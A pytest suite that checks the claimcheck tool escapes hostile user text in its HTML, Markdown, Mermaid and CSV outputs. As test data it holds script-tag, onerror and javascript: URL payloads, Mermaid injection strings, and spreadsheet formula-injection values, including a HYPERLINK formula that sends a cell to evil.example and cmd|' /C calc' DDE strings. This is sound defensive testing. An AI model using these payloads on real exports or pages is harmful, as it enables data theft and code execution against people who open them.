"""User text in reports and exports can neither script nor break them.

A store whose every free-text field (quote, document title and url, party, outlet and
owner names, subject and property labels, units, category values, text values, review
notes) holds HTML, Mermaid and Markdown syntax is rendered as HTML, Markdown (report,
``claims``, ``check``, ``sources``) and CSV, and each output is checked structurally.
"""

from __future__ import annotations

import csv
import io
import json
import re
import traceback
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from ruamel.yaml import YAML

from claimcheck.cli import cli

from support import BASE

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
MERMAID = '"]; click n1 call alert() %% `x` ::: done, 1, 2'
MARKDOWN = "| pipes | [link](javascript:alert(1)) **bold**"
NEWLINES = "line one\nline two\rline three\r\nfour"
HOSTILE = f"{SCRIPT} {IMG} {MERMAID} {MARKDOWN} {NEWLINES}"


def dump(data: Any) -> str:
    """YAML in block style (ruamel's flow style can write a `javascript:x` libyaml refuses)."""
    yaml = YAML(typ="safe", pure=True)
    yaml.default_flow_style = False
    out = io.StringIO()
    yaml.dump(data, out)
    return out.getvalue()


def hostile(marker: str) -> str:
    """HOSTILE text, tagged so that the test can find where each field was rendered."""
    return f"{marker}{HOSTILE}"


# The category values: one starts a Mermaid line with `click` once labels are cleaned.
CLICK_VALUE = "click n1 call alert()"
CAT_VALUES = [CLICK_VALUE, f"CATVAL{SCRIPT}|x|y", "plain"]


def hostile_store(root: Path, review: str | None = None) -> Path:
    data: dict[str, Any] = {
        "outlets": [
            {
                "id": "evil-outlet",
                "name": hostile("OUTLETNAME"),
                "kind": "newspaper",
                "owner": hostile("OWNERNAME"),
            }
        ],
        "documents": [
            {
                "id": "evil-doc",
                "outlet": "evil-outlet",
                "title": hostile("DOCTITLE"),
                "published": "2023-11-09",
                "url": "javascript:alert(2)",
            },
            {
                "id": "evil-doc-2",
                "outlet": "evil-outlet",
                "title": hostile("DOCTITLE2"),
                "published": "2023-11-10",
                "url": " JavaScript:alert(3)",
            },
        ],
        "parties": [{"id": "evil-party", "name": hostile("PARTYNAME"), "kind": "journalist"}],
        "subjects": [
            {
                "id": "evil-subject",
                "label": hostile("SUBJECTLABEL"),
                "date": "2023-11-07",
                "sides": ["rebels"],
            }
        ],
        "properties": [
            {
                "id": "evil-prop",
                "type": "quantity",
                "label": hostile("PROPLABEL"),
                "unit": hostile("UNIT"),
            },
            {
                "id": "evil-cat",
                "type": "category",
                "label": hostile("CATLABEL"),
                "values": CAT_VALUES,
            },
        ],
        "claims": [
            {
                "id": "q1",
                "subject": "evil-subject",
                "property": "evil-prop",
                "value": 14,
                "source": "evil-doc",
                "claimant": "evil-party",
                "quote": hostile("QUOTE"),
            },
            {
                "id": "q2",
                "subject": "evil-subject",
                "property": "evil-prop",
                "value": 3,
                "source": "rfi-doc",
                "quote": hostile("QUOTE2"),
                "as_of": "2023-11-08",
            },
            {
                "id": "k1",
                "subject": "evil-subject",
                "property": "evil-cat",
                "value": CAT_VALUES[0],
                "source": "evil-doc-2",
                "claimant": "evil-party",
            },
            {
                "id": "k2",
                "subject": "evil-subject",
                "property": "evil-cat",
                "value": CAT_VALUES[1],
                "source": "monde-doc",
            },
            {
                "id": "t1",
                "subject": "evil-subject",
                "property": "summary",
                "value": hostile("TEXTVALUE"),
                "source": "evil-doc",
                "note": hostile("NOTE"),
                "locator": hostile("LOCATOR"),
            },
        ],
    }
    if review:
        data["reviews"] = [
            {
                "finding": review,
                "verdict": "explained",
                "note": hostile("REVIEWNOTE"),
                "by": hostile("BY"),
            }
        ]
    root.mkdir(exist_ok=True)
    (root / "base.yaml").write_text(BASE, encoding="utf-8")
    (root / "evil.yaml").write_text(dump(data), encoding="utf-8")
    return root


def invoke(runner: CliRunner, root: Path, *args: str, codes: tuple[int, ...] = (0, 1)) -> str:
    result = runner.invoke(cli, ["--store", str(root), *args])
    exc = result.exception
    if exc is not None and not isinstance(exc, SystemExit):
        tb = "".join(traceback.format_exception(type(exc), exc, exc.__traceback__)[-4:])
        pytest.fail(f"unhandled {type(exc).__name__}: {exc}\n{tb}")
    assert result.exit_code in codes, f"exit {result.exit_code}: {result.stderr}"
    return result.stdout


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile store, with a hostile review of its quantity conflict."""
    root = hostile_store(tmp_path_factory.mktemp("hostile") / "store")
    data = json.loads(invoke(CliRunner(), root, "check", "--format", "json"))
    conflict = next(f for f in data["findings"] if f["rule"] == "CC101")
    return hostile_store(root, review=conflict["fingerprint"])


def test_the_hostile_store_loads_and_has_its_conflicts(store: Path) -> None:
    data = json.loads(invoke(CliRunner(), store, "check", "--format", "json"))
    rules = {f["rule"] for f in data["findings"]}
    assert {"CC101", "CC102"} <= rules, rules
    assert any(f.get("review") for f in data["findings"]), "the review did not match"


# --- HTML -------------------------------------------------------------------------------------


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


HTML_FIELDS = [
    "OUTLETNAME", "OWNERNAME", "DOCTITLE", "DOCTITLE2", "PARTYNAME", "SUBJECTLABEL",
    "PROPLABEL", "CATLABEL", "UNIT", "QUOTE", "QUOTE2", "REVIEWNOTE", "CUSTOMTITLE",
]  # fmt: skip


@pytest.fixture(scope="module")
def html(store: Path) -> str:
    return invoke(
        CliRunner(),
        store,
        "report",
        "--format",
        "html",
        "--title",
        hostile("CUSTOMTITLE"),
        codes=(0,),
    )


def test_html_has_no_script_no_img_no_event_handler(html: str) -> None:
    assert not re.search(r"<\s*script", html, re.I), "a raw <script> tag"
    assert not re.search(r"<\s*img", html, re.I), "a raw <img> tag"
    assert not re.search(r"<[^<>]*\bon\w+\s*=", html, re.I), "an event handler attribute"
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag not in ("script", "img", "iframe", "object", "embed"), tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            if name in ("href", "src", "xlink:href", "action", "formaction"):
                assert value is not None
                assert (
                    not value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
                ), (tag, name, value)


def test_html_links_never_use_javascript_urls(html: str) -> None:
    assert not re.search(r"""href\s*=\s*["']?\s*javascript:""", html, re.I)


@pytest.mark.parametrize("field", HTML_FIELDS)
def test_html_shows_each_field_escaped(html: str, field: str) -> None:
    """Each field is in the report (so the checks above saw it), escaped."""
    assert f"{field}&lt;script&gt;alert(1)&lt;/script&gt;" in html, (
        f"{field} is not rendered escaped"
    )


def test_html_category_values_escaped(html: str) -> None:
    assert "CATVAL&lt;script&gt;" in html


# --- Markdown -----------------------------------------------------------------------------------

LINE_END = re.compile(r"\r\n|\r|\n")  # CommonMark's line endings


def unescaped_pipes(line: str) -> int:
    """Pipes not escaped by a backslash (an odd number of backslashes before them)."""
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))


def fenced_blocks(md: str) -> list[tuple[str, list[str]]]:
    blocks, lines, current, info = [], LINE_END.split(md), None, ""
    for line in lines:
        if line.startswith("```"):
            if current is None:
                current, info = [], line[3:].strip()
            else:
                blocks.append((info, current))
                current = None
        elif current is not None:
            current.append(line)
    assert current is None, "an unclosed code fence"
    return blocks


def outside_fences(md: str) -> list[str]:
    out, inside = [], False
    for line in LINE_END.split(md):
        if line.startswith("```"):
            inside = not inside
            continue
        if not inside:
            out.append(line)
    return out


def check_markdown(md: str) -> None:
    assert "<" not in md, (
        f"a raw '<': ...{md[max(0, md.index('<') - 80) : md.index('<') + 80]!r}..."
    )
    text = outside_fences(md)
    # Tables keep their column count, row after row.
    table: list[str] = []
    for line in [*text, ""]:
        if line.startswith("|"):
            table.append(line)
            continue
        if table:
            counts = [unescaped_pipes(row) for row in table]
            assert len(set(counts)) == 1, "rows with different column counts:\n" + "\n".join(
                f"{c}: {row[:160]}" for c, row in zip(counts, table, strict=True) if c != counts[0]
            )
            table = []
    joined = "\n".join(text)
    assert not re.search(r"(?<!\\)\]\(\s*javascript:", joined, re.I), "a javascript: link"
    assert not re.search(r"(?<!\\)\*\*bold", joined), "user text turned bold"
    # A line of user text never starts a heading, list, quote or fence of its own.
    for line in text:
        assert not re.match(r"\s*(line two|line three|four)\b", line), (
            f"user newline kept: {line!r}"
        )
    for info, block in fenced_blocks(md):
        if info != "mermaid":
            continue
        for line in block:
            assert "<" not in line and "%%" not in line and "`" not in line, line
            assert ":::" not in line, line
            assert not line.strip().lower().startswith("click"), line
            assert line.count('"') in (0, 2), line


def test_markdown_report_is_inert(store: Path) -> None:
    md = invoke(
        CliRunner(),
        store,
        "report",
        "--format",
        "markdown",
        "--title",
        hostile("CUSTOMTITLE"),
        codes=(0,),
    )
    assert "```mermaid" in md, "no Mermaid diagram: the store should have conflicts"
    check_markdown(md)
    for field in (
        "OUTLETNAME",
        "DOCTITLE",
        "PARTYNAME",
        "SUBJECTLABEL",
        "PROPLABEL",
        "CUSTOMTITLE",
    ):
        assert f"{field}&lt;script&gt;" in md, f"{field} is not rendered escaped"


def test_markdown_report_title_is_one_heading(store: Path) -> None:
    md = invoke(
        CliRunner(),
        store,
        "report",
        "--format",
        "markdown",
        "--title",
        hostile("CUSTOMTITLE"),
        codes=(0,),
    )
    first = LINE_END.split(md)[0]
    assert first.startswith("# CUSTOMTITLE") and "four" in first, first


@pytest.mark.parametrize(
    "args",
    [
        ["claims", "--format", "markdown"],
        ["check", "--format", "markdown"],
        ["sources", "--format", "markdown"],
        ["sources", "evil-outlet", "--format", "markdown"],
    ],
    ids=["claims", "check", "sources", "one-outlet"],
)
def test_other_markdown_outputs_are_inert(store: Path, args: list[str]) -> None:
    check_markdown(invoke(CliRunner(), store, *args))


def test_check_markdown_of_a_hostile_candidate_is_inert(store: Path, tmp_path: Path) -> None:
    cand = tmp_path / "cand.yaml"
    cand.write_text(
        dump(
            {
                "claims": [
                    {
                        "id": "cq",
                        "subject": "evil-subject",
                        "property": "evil-cat",
                        "value": CAT_VALUES[2],
                        "source": "figaro-doc",
                        "quote": hostile("CANDQUOTE"),
                    },
                    {
                        "id": "cq2",
                        "subject": "evil-subject",
                        "property": "summary",
                        "value": hostile("CANDTEXT"),
                        "source": "evil-doc",
                    },
                ]
            }
        ),
        encoding="utf-8",
    )
    md = invoke(CliRunner(), store, "check", str(cand), "--format", "markdown")
    check_markdown(md)


# --- Mermaid labels, directly ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        HOSTILE,
        CLICK_VALUE,
        "click",
        "  click x",
        "%%{init: {}}%%",
        "a\nclick n1 call alert()",
        "end",
        "subgraph x",
    ],
)
def test_mermaid_labels_cannot_escape(text: str) -> None:
    from claimcheck.report.mermaid import label

    out = label(text)
    assert "\n" not in out and "\r" not in out
    for bad in ('"', "<", ">", "%", "`", ":", ";", "[", "]", "{", "}", "|", "#"):
        assert bad not in out, (bad, out)


# --- CSV ----------------------------------------------------------------------------------------

FORMULAS = {
    "quote": '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "note": "+cmd|' /C calc'!A0",
    "locator": "-2+3+cmd|' /C calc'!A0",
    "value": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def formula_store(root: Path, extra: dict[str, str] | None = None) -> Path:
    root.mkdir(exist_ok=True)
    (root / "base.yaml").write_text(BASE, encoding="utf-8")
    claims = [
        {
            "id": "f1",
            "subject": "strike",
            "property": "summary",
            "value": FORMULAS["value"],
            "source": "rfi-doc",
            "quote": FORMULAS["quote"],
            "note": FORMULAS["note"],
            "locator": FORMULAS["locator"],
        },
        {
            "id": "f2",
            "subject": "strike",
            "property": "summary",
            "value": "\t=1+1",
            "source": "rfi-doc",
            "quote": "=1+1",
            "note": "-3",
            "locator": "=1",
        },
        {
            "id": "f3",
            "subject": "strike",
            "property": "summary",
            "value": "-3",
            "source": "rfi-doc",
            "quote": "@x",
            "note": "+1",
            "locator": "-1.5",
        },
    ]
    (root / "formulas.yaml").write_text(dump({"claims": claims}), encoding="utf-8")
    for name, text in (extra or {}).items():
        (root / name).write_text(text, encoding="utf-8")
    return root


def _is_plain_number(cell: str) -> bool:
    return re.fullmatch(r"[-+]?\d+(\.\d+)?", cell) is not None


def check_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            if cell and cell[0] in "=+-@\t\r" and not _is_plain_number(cell):
                raise AssertionError(f"column {column}: a cell a spreadsheet runs: {cell!r}")
    return rows


def test_csv_export_guards_formulas(tmp_path: Path, runner: CliRunner) -> None:
    root = formula_store(tmp_path / "store")
    rows = {
        r["id"]: r for r in check_csv(invoke(runner, root, "export", "--format", "csv", codes=(0,)))
    }
    f1 = rows["f1"]
    assert f1["quote"] == "'" + FORMULAS["quote"]
    assert f1["note"] == "'" + FORMULAS["note"]
    assert f1["locator"] == "'" + FORMULAS["locator"]
    assert f1["value"] == "'" + FORMULAS["value"]
    assert rows["f2"]["value"] == "'\t=1+1" and rows["f2"]["quote"] == "'=1+1"
    assert rows["f2"]["locator"] == "'=1"
    assert rows["f3"]["quote"] == "'@x"


def test_csv_export_keeps_plain_negative_numbers_readable(
    tmp_path: Path, runner: CliRunner
) -> None:
    root = formula_store(tmp_path / "store")
    rows = {
        r["id"]: r for r in check_csv(invoke(runner, root, "export", "--format", "csv", codes=(0,)))
    }
    assert rows["f2"]["note"] in ("-3", "'-3")
    assert rows["f3"]["value"] in ("-3", "'-3")


def test_csv_location_of_a_file_named_like_a_formula(
    tmp_path: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Locations are relative to the working directory: a file name can start a cell."""
    root = formula_store(
        tmp_path / "store",
        {
            "=HYPERLINK(1).yaml": "claims:\n  - {id: g1, subject: strike, property: summary, value: ok, source: rfi-doc}\n"
        },
    )
    monkeypatch.chdir(root)
    rows = {
        r["id"]: r
        for r in check_csv(invoke(runner, Path("."), "export", "--format", "csv", codes=(0,)))
    }
    assert rows["g1"]["location"].startswith("'="), rows["g1"]["location"]


def test_csv_cells_with_carriage_returns_keep_rows_whole(tmp_path: Path, runner: CliRunner) -> None:
    """A cell starting with (or holding) a bare CR is guarded and quoted: rows stay rows."""
    root = tmp_path / "store"
    root.mkdir()
    (root / "base.yaml").write_text(BASE, encoding="utf-8")
    claims = [
        {
            "id": "r1",
            "subject": "strike",
            "property": "summary",
            "value": "ok",
            "source": "rfi-doc",
            "quote": "\r=1+1",
        },
        {
            "id": "r2",
            "subject": "strike",
            "property": "summary",
            "value": "ok",
            "source": "rfi-doc",
            "note": "one\rtwo",
        },
        {
            "id": "r3",
            "subject": "strike",
            "property": "summary",
            "value": "ok",
            "source": "rfi-doc",
            "locator": "a\r\nb",
        },
    ]
    (root / "cr.yaml").write_text(dump({"claims": claims}), encoding="utf-8")
    text = invoke(runner, root, "export", "--format", "csv", codes=(0,))
    try:
        rows = {r["id"]: r for r in check_csv(text)}
    except csv.Error as e:
        raise AssertionError(f"the CSV does not parse: {e}\n{text[-600:]!r}") from None
    assert set(rows) == {"r1", "r2", "r3"}
    assert rows["r1"]["quote"] == "'\r=1+1"
    assert rows["r2"]["note"] == "one\rtwo"
